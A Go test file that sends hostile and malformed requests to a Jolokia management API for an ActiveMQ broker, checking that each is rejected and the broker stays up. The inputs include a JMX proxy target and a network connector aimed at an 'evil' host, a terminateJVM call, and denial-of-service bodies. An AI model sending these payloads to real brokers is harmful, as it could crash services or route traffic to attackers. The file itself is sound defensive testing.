package jolokia_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// TestHostileRequests gets a Jolokia error or an HTTP error each, and the next request is served.
func TestHostileRequests(t *testing.T) {
	t.Parallel()
	a := start(t)
	a.send(queueAt("q"), "m")
	long := strings.Repeat("a", 20<<10)
	read := `{"type":"read","mbean":"` + queueName("q") + `","attribute":"QueueSize"}`
	for name, c := range map[string]struct{ method, path, body string }{
		"long name":          {"GET", "/read/org.apache.activemq:type=" + long, ""},
		"long pattern":       {"GET", "/read/org.apache.activemq:type=" + strings.Repeat("*a", 5<<10), ""},
		"many properties":    {"GET", "/read/d:" + manyProperties(100), ""},
		"no value":           {"GET", "/read/org.apache.activemq:type", ""},
		"two stars":          {"GET", "/read/org.apache.activemq:*,*", ""},
		"key twice":          {"GET", "/read/org.apache.activemq:a=1,a=2", ""},
		"open quote":         {"GET", `/read/d:a=%22x`, ""},
		"star in a key":      {"GET", "/read/d:a*=x", ""},
		"deep JSON":          {"POST", "", strings.Repeat("[", 100000)},
		"deep arguments":     {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"getMessage","arguments":[` + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + `]}`},
		"bulk of 10,000":     {"POST", "", "[" + strings.Repeat("1,", 9999) + "1]"},
		"too long":           {"POST", "", `{"type":"` + strings.Repeat("x", 2<<20) + `"}`},
		"no JSON":            {"POST", "", "read"},
		"wrong types":        {"POST", "", `{"type":1}`},
		"name of a wrong":    {"POST", "", `{"type":"read","mbean":{}}`},
		"attribute object":   {"POST", "", `{"type":"read","mbean":"` + queueName("q") + `","attribute":{}}`},
		"arguments no list":  {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"purge","arguments":{}}`},
		"proxy":              {"POST", "", `{"type":"version","target":{"url":"service:jmx:rmi:///jndi/rmi://evil/jmxrmi"}}`},
		"exec of a pattern":  {"POST", "", `{"type":"exec","mbean":"` + queueName("*") + `","operation":"purge"}`},
		"connector":          {"POST", "", `{"type":"exec","mbean":"` + root + `","operation":"addNetworkConnector","arguments":["static:(tcp://evil)"]}`},
		"end of the process": {"POST", "", `{"type":"exec","mbean":"` + root + `","operation":"terminateJVM","arguments":[0]}`},
		"not a number":       {"POST", "", `{"type":"exec","mbean":"` + root + `","operation":"queryQueues","arguments":["",1e99,1]}`},
		"negative page":      {"POST", "", `{"type":"exec","mbean":"` + root + `","operation":"queryQueues","arguments":["",-1,1]}`},
		"selector":           {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"browse(java.lang.String)","arguments":["((((("]}`},
		"priority":           {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"sendTextMessage(java.util.Map,java.lang.String)","arguments":[{"JMSPriority":"x"},"b"]}`},
		"nested properties":  {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"sendTextMessage(java.util.Map,java.lang.String)","arguments":[{"a":{}},"b"]}`},
		"bad schedule":       {"POST", "", `{"type":"exec","mbean":"` + queueName("q") + `","operation":"sendTextMessage(java.util.Map,java.lang.String)","arguments":[{"AMQ_SCHEDULED_CRON":"x"},"b"]}`},
		"queue without name": {"POST", "", `{"type":"exec","mbean":"` + root + `","operation":"addQueue","arguments":[""]}`},
	} {
		status, _, body := a.do(c.method, "/api/jolokia"+c.path, c.body)
		if status >= 400 && status != 500 {
			continue
		}
		x := a.decode(status, body)
		if x.Status < 400 || x.ErrorType == "" || len(body) > 60<<10 {
			t.Errorf("%s: %.300s", name, body)
		}
		if n := a.figure(queueName("q"), "QueueSize"); n != 1 {
			t.Fatalf("%s: %v messages", name, n)
		}
	}
	for _, method := range []string{"PUT", "DELETE", "PATCH", "OPTIONS"} {
		if status, header, _ := a.do(method, "/api/jolokia", read); status != 405 || header.Get("Allow") == "" {
			t.Errorf("%s: %d", method, status)
		}
	}
	for _, path := range []string{"/read/%ff%fe", "/read/" + root + "/%00"} {
		if status, _, body := a.do("GET", "/api/jolokia"+path, ""); status == 500 {
			t.Errorf("%s: %s", path, body)
		}
	}
}

func manyProperties(n int) string {
	list := make([]string, n)
	for i := range list {
		list[i] = fmt.Sprintf("k%d=v", i)
	}
	return strings.Join(list, ",")
}

// TestBodiesAreBounded asks many times for a large message: the answer must not fill the memory.
func TestBodiesAreBounded(t *testing.T) {
	t.Parallel()
	a := start(t)
	if err := a.Core().Create(t.Context(), queueAt("q")); err != nil {
		t.Fatal(err)
	}
	a.must(queueName("q"), "sendTextMessage(java.lang.String)", strings.Repeat("x", 900<<10))
	one := `{"type":"exec","mbean":"` + queueName("q") + `","operation":"browse()"}`
	status, _, body := a.do("POST", "/api/jolokia", "["+strings.Repeat(one+",", 99)+one+"]")
	var list []reply
	if err := json.Unmarshal([]byte(body), &list); err != nil || status != 200 {
		t.Fatal(status, err)
	}
	if list[0].Status != 200 || list[99].Status != 500 || !strings.Contains(list[99].Error, "too much") || len(body) > 40<<20 {
		t.Errorf("%d, then %d %s, %d bytes", list[0].Status, list[99].Status, list[99].Error, len(body))
	}
}

// TestWorkIsBounded asks a thousand times for everything about thousands of queues.
func TestWorkIsBounded(t *testing.T) {
	t.Parallel()
	a := start(t)
	for i := range 2000 {
		if err := a.Core().Create(t.Context(), queueAt(fmt.Sprintf("q.%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	one := `{"type":"read","mbean":"org.apache.activemq:type=Broker,brokerName=localhost,destinationType=Queue,destinationName=*","attribute":"QueueSize"}`
	status, _, body := a.do("POST", "/api/jolokia", "["+strings.Repeat(one+",", 999)+one+"]")
	var list []reply
	if err := json.Unmarshal([]byte(body), &list); err != nil || status != 200 {
		t.Fatal(status, err)
	}
	if len(list[0].Value.(map[string]any)) != 2000 || list[999].Status != 500 || !strings.Contains(list[999].Error, "too much") {
		t.Errorf("%v, then %+v", list[0].Status, list[999])
	}
}
